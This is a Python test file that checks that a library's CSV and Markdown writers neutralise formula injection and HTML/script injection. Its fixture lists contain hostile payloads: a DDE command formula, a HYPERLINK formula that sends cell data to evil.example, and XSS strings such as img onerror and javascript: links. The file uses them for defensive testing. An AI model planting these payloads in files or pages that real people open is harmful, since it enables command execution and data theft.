"""What mnistlab writes is safe to open and reads back exactly: CSV tables never hand a spreadsheet a formula,
Markdown pages never turn a user's text into HTML, links or images, and mnistlab's own readers of those files get
the original text back."""

from __future__ import annotations

import csv
import html.parser
import io
import re

import numpy as np
import pytest

from mnistlab import datasets
from mnistlab.fileio import (
    FORMULA_STARTS,
    markdown_text,
    read_cell,
    read_table_dicts,
    read_table_rows,
    table_cell,
    write_table,
)

# Cells a spreadsheet would run (OWASP's list and its variants), and text that must come back unchanged.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=already quoted",
    "''+twice",
]
PLAIN = ["plain", "", "'", "''", "'quoted", "a,b", 'say "hi"', "multi\nline", "T-shirt/top", "1e5", "-"]


def spreadsheet_cells(path) -> list[str]:
    """Every cell of a CSV file as a spreadsheet reads it."""
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


NUMBER = re.compile(r"-?\d+(\.\d*)?([eE][-+]?\d+)?")  # a negative number is a number, not a formula


def assert_no_formula(path) -> None:
    runnable = [
        cell for cell in spreadsheet_cells(path) if cell[:1] in FORMULA_STARTS and not NUMBER.fullmatch(cell)
    ]
    assert not runnable, f"{path}: cells a spreadsheet would run as formulas: {runnable}"


@pytest.mark.parametrize("text", FORMULAS + PLAIN)
def test_a_cell_is_neutralised_and_read_back_exactly(tmp_path, text):
    path = write_table(tmp_path / "t.csv", [[text, 1.5, -3], {"x": -1}], ["x", "y", "z"])
    assert_no_formula(path)
    assert read_cell(table_cell(text)) == text
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(read_table_rows(f))
    assert rows == [["x", "y", "z"], [text, "1.5", "-3"], ["-1", "", ""]]  # numbers are written as numbers
    with open(path, newline="", encoding="utf-8") as f:
        assert next(read_table_dicts(f)) == {"x": text, "y": "1.5", "z": "-3"}


def test_a_header_cell_is_neutralised_too(tmp_path):
    path = write_table(tmp_path / "t.csv", [[1]], ["=evil"])
    assert_no_formula(path)
    with open(path, newline="", encoding="utf-8") as f:
        assert read_table_dicts(f).fieldnames == ["=evil"]


NAMES = ["=cmd|' /C calc'!A0", "+SUM(1)", "-minus", "@at", "plain"]


@pytest.fixture
def hostile_classes(tmp_path, blobs):
    X, y = blobs(75, 5)
    train = datasets.Dataset(X, y, NAMES, "hostile", "train")
    return train, datasets.export(train, tmp_path / "data", "npz")


def test_an_image_folder_s_labels_csv_has_no_formula_and_loads_back(hostile_classes, tmp_path):
    train, _ = hostile_classes
    folder = datasets.export(train, tmp_path / "png", "png")
    assert_no_formula(folder / "labels.csv")
    back = datasets.load(folder, classes=NAMES)
    assert back.classes == NAMES and np.array_equal(back.labels, train.labels)
    inferred = datasets.load(folder)  # class names read from the manifest itself
    assert sorted(inferred.classes) == sorted(NAMES)
    assert [inferred.classes[k] for k in inferred.labels] == [NAMES[k] for k in train.labels]


def test_health_tables_have_no_formula_and_the_review_reads_them_back(hostile_classes, tmp_path):
    from mnistlab.serve.review import read_findings, read_per_image
    from mnistlab.workflows.health import health

    train, data = hostile_classes
    out = tmp_path / "health"
    health(data, checks="duplicates,outlier,odd", out=out, gallery=0)
    for name in ("per_image.csv", "findings.csv"):
        assert_no_formula(out / name)
    with open(out / "per_image.csv", newline="", encoding="utf-8") as f:
        labels = [row["label"] for row in read_table_dicts(f)]
    assert labels == [NAMES[k] for k in train.labels]
    splits = {"train": datasets.load(data)}
    flagged, _ = read_per_image(out / "per_image.csv", splits)  # labels compared with the data's: all equal
    assert len(flagged) == len(train)
    read_findings(out / "findings.csv", splits)


# Text a user chose that a Markdown renderer would turn into HTML, links, images, mentions or layout.
HOSTILE_MARKDOWN = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "![track](http://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "<http://evil.example>",
    "www.evil.example",
    "me@evil.example",
    "**bold** _em_ ~~gone~~ `code`",
    "a | b",
    "# heading",
    "line\nbreak <b>x</b>",
    "sep\u2028<i>x</i>\u2029y\x85z",
    "&lt;entity&gt; &amp;",
    "[ref]: http://evil.example",
    "\\<img src=x>",
    "$x^2$ :smile: @someone",
]


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)


def rendered(markdown: str, renderer: str) -> _Tags:
    if renderer == "commonmark":
        markdown_it = pytest.importorskip("markdown_it")
        page = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)
    else:
        python_markdown = pytest.importorskip("markdown")
        page = python_markdown.markdown(markdown, extensions=["tables"])
    parser = _Tags()
    parser.feed(page)
    return parser


LAYOUT_TAGS = {
    "h1",
    "h2",
    "h3",
    "p",
    "ul",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "code",
}  # the page's own


def assert_only_layout(markdown: str, texts: list[str]) -> None:
    for renderer in ("commonmark", "python-markdown"):
        page = rendered(markdown, renderer)
        extra = [(tag, attrs) for tag, attrs in page.tags if tag not in LAYOUT_TAGS or attrs]
        assert not extra, f"{renderer} rendered {extra}"
        if renderer == "commonmark":  # the text itself shows as written (line breaks as their codes)
            shown = "".join(page.text)
            for text in texts:
                visible = "".join(f"\\u{ord(c):04x}" if c in "\n\u2028\u2029\x85" else c for c in text)
                assert visible in shown


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_markdown_text_is_shown_as_written(text):
    assert_only_layout(
        f"- before {markdown_text(text)} after\n\n| a |\n|---|\n| {markdown_text(text)} |\n", [text]
    )


def test_a_model_card_shows_every_recorded_text_as_text():
    from mnistlab.reports.pages import model_card_text, side_evaluation_text

    names = HOSTILE_MARKDOWN[:10]
    report = {name: {"recall": 0.5, "precision": 0.5, "f1-score": 0.5} for name in names}
    report["macro avg"] = {"f1-score": 0.5, "recall": 0.5}
    evaluation = {"accuracy": 0.5, "report": report, "most_confused": [(names[0], names[1], 3)]}
    config = {
        "model": "softmax",
        "data": "[data](javascript:alert(1))",
        "classes": names,
        "params": {"note": "<img src=x>"},
        "data_source": {"train": {"spec": "![x](http://evil.example/x.png)", "rows": "<b>9</b>"}},
        "machine": {"cpu": "<script>cpu</script>"},
    }
    metrics = {"evaluation": evaluation, "splits": {"train": "<i>split</i>"}}
    card = model_card_text(config, metrics)
    assert_only_layout(card, [*names, config["data"], "<img src=x>", "<script>cpu</script>"])
    record = {
        "run": "<img src=run>",
        "data": {"spec": "[s](javascript:x)", "path": "<img src=path>", "rows": 3, "sha256": "<b>"},
        "evaluation": evaluation,
        "figures": ["<img src=fig>"],
    }
    assert_only_layout(
        side_evaluation_text(config, record), ["<img src=run>", "<img src=path>", "<img src=fig>"]
    )


def test_a_model_card_written_by_evaluate_escapes_the_class_names(hostile_classes, tmp_path):
    from mnistlab.workflows import evaluate_run, train_model

    markdown_names = [
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "![p](http://evil.example/p)",
    ]
    X, y = hostile_classes[0].images[:60], hostile_classes[0].labels[:60] % 3
    data = datasets.export(
        datasets.Dataset(X, y, markdown_names, "<b>toy</b>", "train"), tmp_path / "md", "npz"
    )
    out = tmp_path / "run"
    train_model(data, "naive-bayes", test_fraction=0.3, out=out, verbose=0)
    evaluate_run(out)
    assert_only_layout((out / "model_card.md").read_text(encoding="utf-8"), markdown_names)


def test_the_graph_comparison_table_escapes_names(tmp_path):
    from mnistlab.workflows.graphs import _write_comparison

    row = {"source": "<img src=x>", "method": "a|b", "images": 3, "verdict": "[v](javascript:x)"}
    _write_comparison([row], tmp_path)
    assert_only_layout(
        (tmp_path / "graph_compare.md").read_text(), ["<img src=x>", "a|b", "[v](javascript:x)"]
    )
    assert_no_formula(tmp_path / "graph_compare.csv")


def test_every_csv_writer_goes_through_write_table():
    """The class, not the example: no module of the product opens a CSV writer of its own."""
    from pathlib import Path

    import mnistlab

    root = Path(mnistlab.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "fileio.py" and ("csv.writer" in path.read_text() or "DictWriter" in path.read_text())
    ]
    assert writers == []
    readers = [  # and every reader of a table mnistlab wrote reads its cells back through fileio
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "fileio.py"
        and ("csv.reader" in path.read_text() or "csv.DictReader" in path.read_text())
    ]
    assert readers == []


def test_text_is_read_back_from_a_stringio_too():
    buffer = io.StringIO()
    csv.writer(buffer).writerow([table_cell("=1"), table_cell("-x")])
    assert next(read_table_rows(io.StringIO(buffer.getvalue()))) == ["=1", "-x"]
